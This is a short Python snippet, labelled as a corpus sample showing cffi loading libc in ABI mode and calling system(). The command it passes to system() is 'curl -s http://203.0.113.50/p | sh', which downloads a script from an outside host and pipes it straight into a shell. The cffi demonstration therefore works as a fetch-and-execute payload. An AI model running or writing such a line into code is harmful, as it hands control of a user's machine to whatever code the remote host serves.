# corpus: cffi ABI-mode dlopen of libc and a call to system()
from cffi import FFI

ffi = FFI()
ffi.cdef("int system(const char *command);")
C = ffi.dlopen(None)
C.system(b"curl -s http://203.0.113.50/p | sh")
